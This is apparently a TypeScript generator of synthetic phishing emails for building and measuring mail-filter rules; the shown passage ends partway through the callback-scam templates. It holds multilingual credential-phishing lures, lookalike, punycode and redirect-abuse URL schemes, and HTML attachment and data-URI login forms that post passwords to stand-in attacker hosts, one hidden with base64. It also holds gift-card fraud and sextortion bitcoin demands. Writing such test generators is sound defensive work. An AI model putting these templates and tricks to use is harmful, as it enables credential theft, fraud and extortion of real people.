// A generator of phishing as it came out of hijacked accounts and cheap senders in 2022-2026, for DEVELOPMENT of the
// content rules: credential harvesting (Microsoft 365, webmail, shared documents, Brazilian banks), fake invoices,
// parcel fees, MFA resets, crypto wallets, gift-card requests, lookalike and punycode domains, QR codes to scan, HTML
// attachments with a login form, extortion for bitcoin, USDT or ether, fake prizes, surveys and expiring points,
// callback phishing (a charge to dispute by phone) in seven languages. Rules are designed on the DEV seed range
// (random.ts) and measured on the REPORT range.
// Every text here is written for this generator.
import { domainToASCII } from 'node:url';
import MailComposer from 'nodemailer/lib/mail-composer';
import type Mail from 'nodemailer/lib/mailer';
import type { Generated } from './ham.js';
import { rand, type Rand } from './random.js';
import { ascii, person, token, type Lang } from './world.js';

/** Small businesses whose mailbox was taken over: the From address the phishing goes out with. */
const hijacked = ['mueller-haustechnik.de', 'smithandsons-plumbing.com', 'cabinet-durand.fr', 'gestoriamartin.es', 'studiorossi.it', 'bakkerij-jansen.nl', 'clinicasilva.pt', 'greenleafdental.com', 'oakridge-realty.com', 'holzbau-weber.at', 'fairview-church.org', 'lakeside-school.org.uk'];
const freemail = ['gmail.com', 'outlook.com', 'hotmail.com', 'yahoo.com', 'aol.com'];

interface Lure {
  brand: string;
  brandDomain: string;
  subject: (r: Rand) => string;
  body: (r: Rand, link: string) => string;
  button: string;
  lang: Lang;
}

const lures: Lure[] = [
  { brand: 'Microsoft 365', brandDomain: 'microsoft.com', lang: 'en', button: 'Keep current password', subject: (r) => r.pick(['Password expiry notice', 'Your password expires today', `Action required: ${r.int(2, 9)} messages held`]), body: (_r, l) => `Your Microsoft 365 password for this mailbox expires today. To keep using the same password, confirm it here: ${l}\nIf you do not act within 24 hours your account will be signed out of all devices.` },
  { brand: 'Outlook Web App', brandDomain: 'outlook.com', lang: 'en', button: 'Release messages', subject: (r) => `Mailbox storage ${r.int(95, 99)}% full`, body: (r, l) => `Your mailbox has reached its storage limit. ${r.int(3, 40)} incoming messages are on hold. Sign in to release pending messages and upgrade your quota: ${l}` },
  { brand: 'SharePoint', brandDomain: 'microsoft.com', lang: 'en', button: 'Open document', subject: (r) => `${r.pick(['Invoice', 'Payment advice', 'Contract', 'Remittance'])} document shared with you`, body: (r, l) => `A secure document has been shared with you via SharePoint Online. "${r.pick(['Remittance_Advice', 'INV', 'Payroll_Q4'])}_${r.int(100, 999)}.pdf" (${r.int(1, 9)} pages). Sign in with your email credentials to view: ${l}` },
  { brand: 'DocuSign', brandDomain: 'docusign.com', lang: 'en', button: 'REVIEW DOCUMENT', subject: () => 'Please DocuSign: Completed agreement', body: (r, l) => `You have received a document to review and sign. Please sign in with your email account to access the document. ${l}\nDocuSign Envelope ID: ${token(r, 8).toUpperCase()}-${token(r, 4).toUpperCase()}` },
  { brand: 'PayPal', brandDomain: 'paypal.com', lang: 'en', button: 'Confirm information', subject: () => 'Your account has been limited', body: (r, l) => `We noticed unusual activity on your PayPal account and have limited what you can do. Please confirm your identity and billing information to restore full access: ${l}\nCase ID: PP-${r.int(100000, 999999)}` },
  { brand: 'DHL', brandDomain: 'dhl.com', lang: 'en', button: 'Pay and schedule delivery', subject: (r) => `Your parcel ${token(r, 10, '0123456789')} is waiting for delivery`, body: (r, l) => `Your package could not be delivered because the customs duty of ${r.pick(['1.99', '2.49', '3.00'])} EUR has not been paid. Please pay the fee and choose a new delivery date: ${l}\nParcels not claimed within 48 hours are returned to the sender.` },
  { brand: 'DHL', brandDomain: 'dhl.de', lang: 'de', button: 'Zustellung planen', subject: () => 'Ihr Paket konnte nicht zugestellt werden', body: (r, l) => `Ihr Paket wartet auf die Zustellung. Bitte bestätigen Sie Ihre Adresse und zahlen Sie die Versandgebühr von ${r.pick(['1,99', '2,99'])} EUR: ${l}\nNicht abgeholte Sendungen gehen nach 3 Tagen zurück an den Absender.` },
  { brand: 'La Poste', brandDomain: 'laposte.fr', lang: 'fr', button: 'Reprogrammer la livraison', subject: () => 'Votre colis est en attente de livraison', body: (r, l) => `Votre colis n'a pas pu être livré, des frais de livraison de ${r.pick(['1,99', '2,99'])} EUR restent à payer. Réglez les frais et choisissez une nouvelle date ici : ${l}` },
  { brand: 'Correos', brandDomain: 'correos.es', lang: 'es', button: 'Pagar ahora', subject: () => 'Su paquete está retenido en aduana', body: (r, l) => `Su envío está retenido. Para recibir su paquete debe pagar las tasas de aduana de ${r.pick(['1,79', '2,99'])} EUR: ${l}` },
  { brand: 'Poste Italiane', brandDomain: 'poste.it', lang: 'it', button: 'Conferma', subject: () => 'Il tuo pacco è in giacenza', body: (_r, l) => `La spedizione è in giacenza per mancato pagamento delle spese di consegna. Paga ora le spese di spedizione per ricevere il pacco: ${l}` },
  { brand: 'PostNL', brandDomain: 'postnl.nl', lang: 'nl', button: 'Betaal nu', subject: () => 'Uw pakket kon niet worden bezorgd', body: (r, l) => `Uw pakket staat klaar, maar er zijn nog verzendkosten van € ${r.pick(['1,95', '2,50'])} verschuldigd. Betaal de kosten en kies een nieuwe bezorgdatum: ${l}` },
  { brand: 'CTT', brandDomain: 'ctt.pt', lang: 'pt', button: 'Pagar agora', subject: () => 'A sua encomenda aguarda pagamento', body: (r, l) => `A sua encomenda está retida. Pague a taxa alfandegária de ${r.pick(['1,49', '2,19'])} EUR para receber a sua encomenda: ${l}` },
  { brand: 'Sparkasse', brandDomain: 'sparkasse.de', lang: 'de', button: 'Jetzt verifizieren', subject: () => 'Wichtige Sicherheitsmitteilung zu Ihrem Konto', body: (r, l) => `Aufgrund neuer Sicherheitsrichtlinien müssen Sie Ihr Konto bis zum ${r.int(1, 28)}.12. bestätigen. Melden Sie sich an und bestätigen Sie Ihre Daten, sonst wird Ihr Online-Banking gesperrt: ${l}` },
  { brand: 'Microsoft Authenticator', brandDomain: 'microsoft.com', lang: 'en', button: 'Re-enroll MFA', subject: () => 'MFA re-registration required', body: (r, l) => `Your multi-factor authentication settings must be renewed. Scan the code or sign in to re-register your authenticator app before ${r.int(1, 28)} December, otherwise access to email will be blocked: ${l}` },
  { brand: 'Coinbase', brandDomain: 'coinbase.com', lang: 'en', button: 'Secure wallet', subject: () => 'Unauthorized withdrawal attempt', body: (r, l) => `We blocked a withdrawal of ${r.int(1, 9)}.${r.int(10, 99)} ETH from your wallet. If this wasn't you, verify your wallet and recovery phrase now to secure your funds: ${l}` },
  { brand: 'MetaMask', brandDomain: 'metamask.io', lang: 'en', button: 'Verify wallet', subject: () => 'Wallet verification required', body: (r, l) => `Due to a regulatory update, all wallets must be verified by ${r.int(1, 28)}.12. Unverified wallets will be restricted. Connect your wallet to complete verification: ${l}` },
  { brand: 'Netflix', brandDomain: 'netflix.com', lang: 'fr', button: 'Mettre à jour le paiement', subject: () => 'Votre abonnement est suspendu', body: (_r, l) => `Nous n'avons pas pu valider votre paiement. Mettez à jour vos informations de paiement pour réactiver votre compte : ${l}` },
  { brand: 'Amazon', brandDomain: 'amazon.com', lang: 'es', button: 'Verificar cuenta', subject: () => 'Hemos bloqueado tu cuenta', body: (_r, l) => `Hemos detectado un inicio de sesión inusual. Verifica tu cuenta y tus datos de pago para desbloquearla: ${l}` },
  { brand: 'Apple', brandDomain: 'apple.com', lang: 'it', button: 'Verifica', subject: () => 'Il tuo ID Apple è stato bloccato', body: (_r, l) => `Il tuo ID Apple è stato bloccato per motivi di sicurezza. Accedi e verifica le tue informazioni entro 24 ore: ${l}` },
  { brand: 'ING', brandDomain: 'ing.nl', lang: 'nl', button: 'Verifieer nu', subject: () => 'Uw bankpas verloopt', body: (_r, l) => `Uw bankpas verloopt binnenkort. Vraag een nieuwe pas aan en bevestig uw gegevens via: ${l}` },
  { brand: 'Millennium BCP', brandDomain: 'millenniumbcp.pt', lang: 'pt', button: 'Confirmar', subject: () => 'Atualização de segurança obrigatória', body: (_r, l) => `A sua conta será bloqueada. Confirme os seus dados de acesso e o código de segurança: ${l}` },
  // Brazil: registration updates, security tokens, import fees, the commonest lures of Brazilian phishing
  { brand: 'Bradesco', brandDomain: 'bradesco.com.br', lang: 'pt', button: 'Atualizar agora', subject: (r) => r.pick(['Aviso importante: atualização cadastral', 'Seu acesso foi limitado']), body: (r, l) => `Prezado(a) cliente, identificamos uma pendência no seu cadastro. Para evitar o bloqueio do seu cartão e da sua conta, atualize seus dados em até ${r.int(24, 72)} horas pelo link: ${l}` },
  { brand: 'Itaú', brandDomain: 'itau.com.br', lang: 'pt', button: 'Sincronizar token', subject: () => 'Seu token de segurança expirou', body: (_r, l) => `Seu token de segurança venceu e o acesso ao aplicativo será suspenso. Faça a sincronização do dispositivo agora mesmo: ${l}` },
  { brand: 'Correios', brandDomain: 'correios.com.br', lang: 'pt', button: 'Pagar taxa', subject: (r) => `Objeto ${token(r, 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}${token(r, 9, '0123456789')}BR aguardando pagamento`, body: (r, l) => `Sua encomenda foi taxada pela Receita Federal. Para a liberação do objeto, pague a taxa de importação de R$ ${r.int(19, 89)},${r.int(10, 99)} até amanhã: ${l}\nApós o prazo o objeto será devolvido ao remetente.` },
  { brand: 'Nubank', brandDomain: 'nubank.com.br', lang: 'pt', button: 'Confirmar identidade', subject: () => 'Compra não reconhecida no seu cartão', body: (r, l) => `Detectamos uma compra de R$ ${r.int(900, 4900)},00 no seu cartão. Se não foi você, confirme sua identidade para cancelar a transação, caso contrário sua conta será bloqueada: ${l}` },
];

/** Where the link goes: the attacker's own domain of several kinds, or somebody else's service it abuses. */
function attackerUrl(r: Rand, lure: Lure): { url: string; style: string } {
  const b = lure.brand.toLowerCase().replace(/[^a-z0-9]/g, '');
  const path = `/${r.pick(['login', 'secure', 'verify', 'auth', 'index.php', 'sign-in', 'track', 'portal'])}/${token(r, 8)}`;
  const style = r.pick(['combo', 'random', 'lookalike', 'punycode', 'compromised', 'cloud', 'shortener', 'redirect', 'ip', 'ipfs'] as const);
  switch (style) {
    case 'combo': return { style, url: `https://${b}-${r.pick(['secure', 'login', 'verify', 'support', 'account', 'service'])}.${r.pick(['com', 'net', 'online', 'site', 'xyz', 'top'])}${path}` };
    case 'random': return { style, url: `https://${token(r, r.int(5, 10), 'abcdefghijklmnopqrstuvwxyz')}.${r.pick(['xyz', 'top', 'shop', 'click', 'icu', 'online', 'store', 'info', 'com'])}${path}` };
    case 'lookalike': {
      const d = lure.brandDomain.split('.')[0]!;
      const swapped = r.pick([d.replace('l', '1'), d.replace('o', '0'), d.replace('m', 'rn'), d.replace('i', 'l'), d + 's', d.replace(/(.)/, '$1$1')]);
      return { style, url: `https://${swapped === d ? d + '-' + token(r, 3) : swapped}.${r.pick(['com', 'net', 'co', 'app'])}${path}` };
    }
    case 'punycode': {
      const d = lure.brandDomain.split('.')[0]!;
      const uni = d.replace('a', 'а').replace('o', 'о').replace('e', 'е').replace('p', 'р');
      return { style, url: `https://${domainToASCII(uni === d ? d + 'ı' : uni)}.com${path}` };
    }
    case 'compromised': return { style, url: `https://www.${r.pick(['kleingarten', 'yogastudio', 'autohaus', 'winery', 'lawfirm', 'dentalcare'])}-${token(r, 4, 'abcdefghijklmnopqrstuvwxyz')}.${r.pick(['de', 'com', 'it', 'com.br', 'co.za'])}/wp-content/plugins/${token(r, 6)}/${b}/index.html` };
    case 'cloud': return { style, url: r.pick([`https://${token(r, 10)}.web.app/${b}`, `https://storage.googleapis.com/${token(r, 12)}/${b}.html`, `https://${token(r, 8)}.pages.dev/`, `https://pub-${token(r, 16)}.r2.dev/index.html`, `https://${token(r, 9)}.blob.core.windows.net/$web/index.html`, `https://docs.google.com/forms/d/e/${token(r, 30)}/viewform`]) };
    case 'shortener': return { style, url: `https://${r.pick(['bit.ly', 'tinyurl.com', 'rb.gy', 'cutt.ly', 't.ly', 'is.gd'])}/${token(r, 7)}` };
    case 'redirect': {
      const target = encodeURIComponent(`https://${token(r, 7, 'abcdefghijklmnopqrstuvwxyz')}.${r.pick(['xyz', 'top', 'ru'])}${path}`);
      return { style, url: r.pick([`https://www.google.com/url?q=${target}&sa=D`, `https://www.bing.com/ck/a?u=${target}`, `https://t.${r.pick(['newsletter-tool', 'mailtrack'])}.com/r?url=${target}`, `https://login.microsoftonline.com/common/oauth2/logout?post_logout_redirect_uri=${target}`]) };
    }
    case 'ip': return { style, url: `http://${r.int(45, 220)}.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}${path}` };
    case 'ipfs': return { style, url: `https://ipfs.io/ipfs/${token(r, 46)}?filename=${b}.html` };
  }
}

type Family = (r: Rand) => { kind: string; spec: Mail.Options; fromDomain: string };

const html = (lure: Lure, body: string, url: string, shown: string, r: Rand) =>
  `<html><body style="font-family:Segoe UI,Arial"><table width="100%"><tr><td align="center"><table width="560" style="border:1px solid #ddd;padding:24px">` +
  `<tr><td>${r.chance(0.5) ? `<img src="https://${r.pick(['i.imgur.com', 'upload.wikimedia.org', 'cdn.' + token(r, 6) + '.com'])}/${token(r, 8)}.png" alt="${lure.brand}" height="40">` : `<b style="font-size:20px">${lure.brand}</b>`}</td></tr>` +
  `<tr><td style="font-size:14px;color:#333">${body.split('\n').map((l) => `<p>${l.replace(url, `<a href="${url}">${shown}</a>`)}</p>`).join('')}</td></tr>` +
  `<tr><td><a href="${url}" style="background:#0067b8;color:#fff;padding:10px 20px;text-decoration:none">${lure.button}</a></td></tr>` +
  `<tr><td style="font-size:11px;color:#999">© 2026 ${lure.brand}. ${r.pick(['All rights reserved.', 'Privacy Statement', ''])}</td></tr></table></td></tr></table></body></html>`;

function sender(r: Rand, lure: Lure): { from: Mail.Address; domain: string } {
  const domain = r.chance(0.8) ? r.pick(hijacked) : r.pick(freemail);
  const p = person(r, lure.lang, domain);
  const name = r.pick([lure.brand, `${lure.brand} ${r.pick(['Support', 'Service', 'Security', 'Team'])}`, fullNameOf(p), 'IT Helpdesk', 'Mail Administrator', `${lure.brand} via ${ascii(p.first)}`]);
  return { from: { name, address: p.email }, domain };
}

const fullNameOf = (p: { first: string; last: string }) => `${p.first} ${p.last}`;

const families: Record<string, Family> = {
  'credential-link': (r) => {
    const lure = r.pick(lures);
    const { url, style } = attackerUrl(r, lure);
    const s = sender(r, lure);
    const shown = r.pick([url, `https://www.${lure.brandDomain}/${r.pick(['signin', 'account', 'secure'])}`, lure.button, 'here', `${lure.brandDomain}`]);
    const body = lure.body(r, url);
    return {
      kind: `credential-link/${style}`, fromDomain: s.domain,
      spec: { from: s.from, subject: lure.subject(r), html: html(lure, body, url, shown, r), ...(r.chance(0.6) ? { text: body } : {}) },
    };
  },
  'html-attachment': (r) => {
    const lure = r.pick(lures.filter((l) => l.lang === 'en' || r.chance(0.3)));
    const s = sender(r, lure);
    const post = `https://${token(r, 8, 'abcdefghijklmnopqrstuvwxyz')}.${r.pick(['xyz', 'top', 'com', 'online'])}/${r.pick(['next.php', 'post.php', 'auth.php'])}`;
    const page = r.chance(0.5)
      ? `<html><head><title>${lure.brand}</title></head><body><form action="${post}" method="POST"><input type="email" name="login" value=""><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form></body></html>`
      : `<html><body><script>var u=atob('${Buffer.from(post).toString('base64')}');document.write('<form action="'+u+'" method=post><input name=e><input type=password name=p></form>')</script></body></html>`;
    const name = `${r.pick(['Remittance', 'INV', 'Payment_Advice', 'Voicemail', 'Fax', 'Rechnung', 'Facture'])}_${r.int(1000, 99999)}.${r.pick(['html', 'htm', 'shtml'])}`;
    return {
      kind: 'html-attachment', fromDomain: s.domain,
      spec: { from: s.from, subject: `${r.pick(['Payment confirmation', 'New voicemail', 'Overdue invoice', 'Zahlungsavis', 'Avis de paiement'])} ${r.int(1000, 9999)}`, text: `${r.pick(['Please see the attached document and confirm.', 'You have a new voice message (0:42). Open the attachment to listen.', 'Attached is the payment advice for your invoice.', 'Anbei das Zahlungsavis zu Ihrer Rechnung.'])}\n`, attachments: [{ filename: name, content: page, contentType: 'text/html' }] },
    };
  },
  'archive-attachment': (r) => {
    const lure = r.pick(lures);
    const s = sender(r, lure);
    const inner = `${r.pick(['Invoice', 'Scan', 'Order', 'Rechnung', 'Factura'])}_${r.int(100, 9999)}.${r.pick(['exe', 'scr', 'js', 'lnk', 'iso', 'vbs', 'pdf.exe'])}`;
    return {
      kind: 'archive-attachment', fromDomain: s.domain,
      spec: { from: s.from, subject: `${r.pick(['Invoice', 'Overdue payment', 'Order confirmation', 'Rechnung', 'Fattura'])} ${r.int(1000, 99999)}`, text: `${r.pick(['Hello,\n\nplease find the invoice attached. Payment is overdue.', 'Hi, the scanned documents you asked for are attached.', 'Guten Tag, anbei die offene Rechnung.'])}\n\n${fullNameOf(person(r, 'en'))}\n`, attachments: [{ filename: `${inner.split('.')[0]}.zip`, content: zipOf(inner), contentType: 'application/zip' }] },
    };
  },
  'fake-invoice': (r) => {
    const lure = r.pick(lures);
    const { url, style } = attackerUrl(r, lure);
    const s = sender(r, lure);
    const amount = `${r.int(400, 9800)}.${r.int(10, 99)}`;
    const texts: Array<[string, string]> = [
      [`Invoice #${r.int(1000, 99999)} overdue`, `Dear customer,\n\nour records show that invoice #${r.int(1000, 99999)} over ${amount} EUR is overdue. Please view and settle the invoice here: ${url}\n\nRegards, Accounts Receivable`],
      [`Rechnung ${r.int(1000, 99999)} – Zahlungserinnerung`, `Sehr geehrte Damen und Herren,\n\ndie Rechnung über ${amount} EUR ist noch offen. Die Rechnung können Sie hier einsehen und bezahlen: ${url}\n\nMit freundlichen Grüßen\nBuchhaltung`],
      [`Facture impayée n° ${r.int(1000, 99999)}`, `Bonjour,\n\nsauf erreur de notre part, la facture de ${amount} EUR reste impayée. Consultez et réglez la facture en ligne : ${url}\n\nService comptabilité`],
      [`Factura pendiente ${r.int(1000, 99999)}`, `Estimado cliente,\n\nla factura de ${amount} EUR sigue pendiente de pago. Consulte la factura aquí: ${url}`],
      [`Fattura n. ${r.int(1000, 99999)} in scadenza`, `Gentile cliente,\n\nla fattura di ${amount} EUR risulta non pagata. Visualizza la fattura: ${url}`],
      [`Openstaande factuur ${r.int(1000, 99999)}`, `Beste klant,\n\nfactuur van ${amount} EUR staat nog open. Bekijk en betaal de factuur via ${url}`],
      [`Fatura em atraso ${r.int(1000, 99999)}`, `Caro cliente,\n\na fatura de ${amount} EUR está em atraso. Consulte e pague a fatura aqui: ${url}`],
    ];
    const [subject, text] = r.pick(texts);
    return { kind: `fake-invoice/${style}`, fromDomain: s.domain, spec: { from: { name: r.pick(['Accounts', 'Buchhaltung', 'Billing Department', s.from.name]), address: s.from.address }, subject, text, ...(r.chance(0.5) ? { html: `<html><body>${text.split('\n').map((l) => `<p>${l.replace(url, `<a href="${url}">${r.pick(['View invoice', 'Rechnung ansehen', 'Voir la facture', url])}</a>`)}</p>`).join('')}</body></html>` } : {}) } };
  },
  'gift-card': (r) => {
    const boss = person(r, 'en');
    const domain = r.pick(hijacked);
    const reply = `${ascii(boss.first).toLowerCase()}.${r.pick(['ceo', 'office', 'private', 'direct'])}${r.int(1, 99)}@${r.pick(freemail)}`;
    const text = r.pick([
      `Hi,\n\nare you available? I need you to get some gift cards for a client appreciation today, ${r.int(5, 10)} Apple gift cards of $100 each. Scratch the back and send me the codes by email. I will refund you later.\n\n${boss.first}\nSent from my iPhone`,
      `Hallo,\n\nbist du gerade im Büro? Ich brauche dringend ${r.int(5, 10)} Google Play Geschenkkarten zu je 100 €. Bitte kaufe sie und schicke mir die Codes per E-Mail. Ich bin in einem Meeting.\n\n${boss.first}`,
      `Bonjour,\n\nêtes-vous disponible ? J'ai besoin de cartes cadeaux Amazon pour des clients, ${r.int(5, 10)} cartes de 100 €. Envoyez-moi les codes par retour de mail, c'est urgent.\n\n${boss.first}`,
      `Hola, ¿estás disponible? Necesito que compres ${r.int(5, 10)} tarjetas regalo de Amazon de 100 € y me envíes los códigos. Es urgente.\n\n${boss.first}`,
    ]);
    return { kind: 'gift-card', fromDomain: domain, spec: { from: { name: fullNameOf(boss), address: `${ascii(boss.first).toLowerCase()}@${domain}` }, replyTo: reply, subject: r.pick(['Quick favour', 'Are you available?', 'Urgent request', 'Kurze Frage', 'Demande urgente']), text } };
  },
  'qr-code': (r) => {
    const lure = r.pick(lures);
    const s = sender(r, lure);
    const img = `https://${r.pick(['api.qrserver.com/v1/create-qr-code/?data=', 'quickchart.io/qr?text='])}${encodeURIComponent(attackerUrl(r, lure).url)}`;
    const body = r.pick([
      `Your ${lure.brand} multi-factor authentication expires today. Scan the QR code below with your phone camera to re-authenticate and keep access to your mailbox.`,
      `Ihre Zwei-Faktor-Authentifizierung läuft ab. Scannen Sie den QR-Code mit Ihrem Smartphone, um Ihr Konto zu bestätigen.`,
      `A document is waiting for your signature. Scan the QR code with your mobile device to review and sign securely.`,
      `Votre mot de passe expire aujourd'hui. Scannez le code QR avec votre téléphone pour conserver votre mot de passe actuel.`,
    ]);
    return { kind: 'qr-code', fromDomain: s.domain, spec: { from: s.from, subject: r.pick(['Action required: re-authenticate', 'MFA update required', 'Document ready for signature', 'Sicherheitsupdate erforderlich']), html: `<html><body><p>${body}</p><p><img src="${img}" width="200" height="200" alt="QR"></p><p>${lure.brand} Security</p></body></html>` } };
  },
  'data-uri': (r) => {
    const lure = r.pick(lures);
    const s = sender(r, lure);
    const page = `<html><body><form action="https://${token(r, 7, 'abcdefghijklmnopqrstuvwxyz')}.top/p.php" method="post"><input type="password" name="p"></form></body></html>`;
    const href = `data:text/html;base64,${Buffer.from(page).toString('base64')}`;
    return { kind: 'data-uri', fromDomain: s.domain, spec: { from: s.from, subject: lure.subject(r), html: `<html><body><p>${lure.body(r, 'the secure portal')}</p><a href="${href}">${lure.button}</a></body></html>` } };
  },
  'crypto-scam': (r) => {
    const s = sender(r, lures[14]!);
    const { url, style } = attackerUrl(r, lures[14]!);
    return { kind: `crypto/${style}`, fromDomain: s.domain, spec: { from: s.from, subject: r.pick(['Your BTC withdrawal is pending', 'Claim your airdrop', 'Bitcoin-Auszahlung ausstehend']), text: r.pick([`You have ${r.int(1, 3)}.${r.int(100, 999)} BTC pending withdrawal to your wallet. Confirm the transfer and pay the network fee to receive your bitcoin: ${url}`, `Congratulations! Your wallet is eligible for the ${r.pick(['USDT', 'ETH', 'ARB'])} airdrop. Connect your wallet and enter your seed phrase to claim: ${url}`, `Auf Ihrem Krypto-Konto liegen ${r.int(1, 3)},${r.int(100, 999)} BTC zur Auszahlung bereit. Bestätigen Sie Ihre Wallet: ${url}`]) } };
  },
  extortion: (r) => {
    const domain = r.chance(0.7) ? r.pick(hijacked) : r.pick(freemail);
    const p = person(r, 'en', domain);
    const amount = r.pick(['$1250', '$1450', '$1650', '1,200 USD', '1.300 EUR', '1.500 €', 'R$ 6.000']);
    const hours = r.pick(['48', '72', '50']);
    const base58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
    const btcWallet = r.chance(0.6) ? `bc1q${token(r, 38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')}` : `1${token(r, 33, base58)}`;
    const coin = r.pick([
      { name: 'Bitcoin', ticker: 'BTC', wallet: btcWallet },
      { name: 'Bitcoin', ticker: 'BTC', wallet: btcWallet },
      { name: 'USDT (TRC20)', ticker: 'USDT', wallet: `T${token(r, 33, base58)}` },
      { name: 'Ethereum', ticker: 'ETH', wallet: `0x${token(r, 40, '0123456789abcdef')}` },
    ]);
    const wallet = coin.wallet;
    const texts: Array<[string, string]> = [
      ['Your account has been hacked', `Hello!\n\nI have to share bad news with you. Some months ago I gained access to your devices that you use for browsing the internet. After that I started tracking your activity.\n\nYour device was infected with my spyware while you visited one of the adult websites. I made a video of you and I have the list of all your contacts, friends and colleagues.\n\nIf you want me to delete everything, transfer ${amount} in ${coin.name} to my wallet:\n\n${wallet}\n\nYou have ${hours} hours from the moment you opened this email. If I do not get the money, the video goes to everyone in your address book. Going to the police is useless, they will never find me.`],
      [`${p.email.split('@')[0]}: payment overdue`, `I know your password and I have been inside your computer for a while. My software turned on your camera while you were watching porn sites and I saved the recording.\n\n${coin.ticker} address: ${wallet}\nAmount: ${amount}\n\nThe countdown starts now: ${hours} hours. Pay and I erase the files. Don't pay and your family and your colleagues get the clip. Do not reply, this mailbox is not monitored.`],
      ['Sicherheitswarnung: Ihr Konto wurde gehackt', `Hallo,\n\nich habe Ihr Gerät mit einem Trojaner infiziert und Sie beim Besuch von Erwachsenenseiten gefilmt. Ich habe Zugriff auf alle Ihre Kontakte.\n\nÜberweisen Sie ${amount} in ${coin.name} an diese Adresse: ${wallet}\n\nSie haben ${hours} Stunden Zeit. Danach schicke ich das Video an alle Ihre Kontakte. Die Polizei kann Ihnen nicht helfen.`],
      ['Votre appareil a été piraté', `Bonjour,\n\nj'ai piraté votre ordinateur et enregistré une vidéo de vous pendant que vous regardiez des sites pour adultes.\n\nEnvoyez ${amount} en ${coin.name} à l'adresse suivante : ${wallet}\n\nVous avez ${hours} heures. Sinon la vidéo sera envoyée à tous vos contacts.`],
      ['Sua conta foi invadida', `Olá,\n\ninvadi o seu dispositivo e gravei um vídeo seu em sites para adultos. Tenho todos os seus contatos.\n\nEnvie ${amount} em ${coin.name} para a carteira: ${wallet}\n\nVocê tem ${hours} horas. Se não pagar, o vídeo será enviado para todos os seus contatos. Não adianta procurar a polícia.`],
    ];
    const [subject, text] = r.pick(texts);
    return { kind: 'extortion', fromDomain: domain, spec: { from: { name: r.pick([fullNameOf(p), 'Security Notice', '']), address: p.email }, subject, text } };
  },
  reward: (r) => {
    const offers: Array<{ brand: string; brandDomain: string; lang: Lang; subject: string; body: (l: string) => string; button: string }> = [
      { brand: 'Costco', brandDomain: 'costco.com', lang: 'en', subject: 'Your membership reward is waiting', button: 'Start the survey', body: (l) => `Dear member, as a thank-you for your loyalty you have been selected to receive a $${r.pick(['50', '100', '90'])} Costco gift card. Just complete a short ${r.int(20, 60)}-second survey about your shopping experience to claim it: ${l}\nOnly ${r.int(3, 9)} rewards left today.` },
      { brand: 'Walmart', brandDomain: 'walmart.com', lang: 'en', subject: `Congratulations! You've won`, button: 'Claim now', body: (l) => `Congratulations! You have won a brand new ${r.pick(['Apple iPhone 17', 'Dyson vacuum', 'Ninja air fryer'])} in our monthly customer draw. Pay only the shipping of $${r.int(1, 9)}.${r.int(10, 99)} to receive your prize: ${l}` },
      { brand: 'Home Depot', brandDomain: 'homedepot.com', lang: 'en', subject: 'Final notice: your reward expires tonight', button: 'Get my reward', body: (l) => `Your Home Depot reward (a ${r.pick(['DeWalt drill set', 'Yeti cooler', 'Weber grill'])}) has not been claimed. Answer ${r.int(3, 6)} quick questions and claim your free gift before midnight: ${l}` },
      { brand: 'Livelo', brandDomain: 'livelo.com.br', lang: 'pt', subject: `Seus ${r.int(10, 90)}.${r.int(100, 999)} pontos expiram hoje`, button: 'Resgatar pontos', body: (l) => `Olá! Seus pontos Livelo expiram hoje às 23h59. Troque agora mesmo por produtos e não perca o seu saldo: ${l}` },
      { brand: 'Amazon', brandDomain: 'amazon.de', lang: 'de', subject: 'Sie wurden ausgewählt!', button: 'Jetzt teilnehmen', body: (l) => `Herzlichen Glückwunsch, Sie wurden als Gewinner unserer Kundenumfrage ausgewählt. Sichern Sie sich jetzt Ihr Geschenk im Wert von ${r.int(200, 900)} €: ${l}` },
      { brand: 'Apple', brandDomain: 'apple.com', lang: 'en', subject: 'Your iCloud storage is full', button: 'Upgrade storage', body: (l) => `Your iCloud storage is full and your photos and videos can no longer be backed up. As a loyalty bonus you can get ${r.pick(['50', '200'])} GB extra for free. If you do not act, your photos will be removed from iCloud on ${r.int(1, 28)}.12.: ${l}` },
      { brand: 'Carrefour', brandDomain: 'carrefour.fr', lang: 'fr', subject: 'Vous avez été sélectionné', button: 'Je participe', body: (l) => `Félicitations ! Vous avez été sélectionné pour recevoir une carte cadeau Carrefour de ${r.int(100, 500)} €. Répondez à notre courte enquête pour récupérer votre cadeau : ${l}` },
    ];
    const o = r.pick(offers);
    const lure: Lure = { brand: o.brand, brandDomain: o.brandDomain, lang: o.lang, button: o.button, subject: () => o.subject, body: (_r, l) => o.body(l) };
    const { url, style } = attackerUrl(r, lure);
    const s = sender(r, lure);
    const body = o.body(url);
    return { kind: `reward/${style}`, fromDomain: s.domain, spec: { from: s.from, subject: o.subject, html: html(lure, body, url, o.button, r), ...(r.chance(0.5) ? { text: body } : {}) } };
  },
  // Callback phishing: a renewal or charge in a well-known company's name, an amount and a phone number to call to
  // dispute it; no link. Written from how the scam works (the invoice the reader never ordered), in seven languages.
  callback: (r) => {
    const domain = r.chance(0.6) ? r.pick(freemail) : r.pick(hijacked);
    const p = person(r, 'en', domain);
    const brand = r.pick(['Norton', 'McAfee', 'PayPal', 'Geek Squad', 'Norton 360', 'McAfee Total Protection']);
    const invoice = `${r.pick(['INV', 'NR', ''])}${r.int(100000, 999999)}`;
    const cents = r.int(10, 99);
    const phoneUs = `${r.pick(['+1 ', '1-', '', '('])}${r.int(800, 899)}${r.pick([') ', '-', ' ', '.'])}${r.int(200, 999)}${r.pick(['-', ' ', '.'])}${r.int(1000, 9999)}`;
    const phoneEu = r.pick([`+${r.pick(['49', '33', '34', '39', '31', '351', '55'])} ${r.int(10, 99)} ${r.int(1000, 9999)} ${r.int(1000, 9999)}`, `0800 ${r.int(100, 999)} ${r.int(1000, 9999)}`]);
    const texts: Array<[string, string]> = [
      [`${brand} subscription renewed - invoice ${invoice}`, `Dear customer,\n\nyour ${brand} subscription has been renewed automatically for another year. The amount of $${r.int(249, 499)}.${cents} has been charged to your account.\n\nInvoice: ${invoice}\n\nIf you did not authorize this charge or want to cancel, call our billing department at ${phoneUs} within 24 hours to get a full refund.\n\nThank you for choosing ${brand}.`],
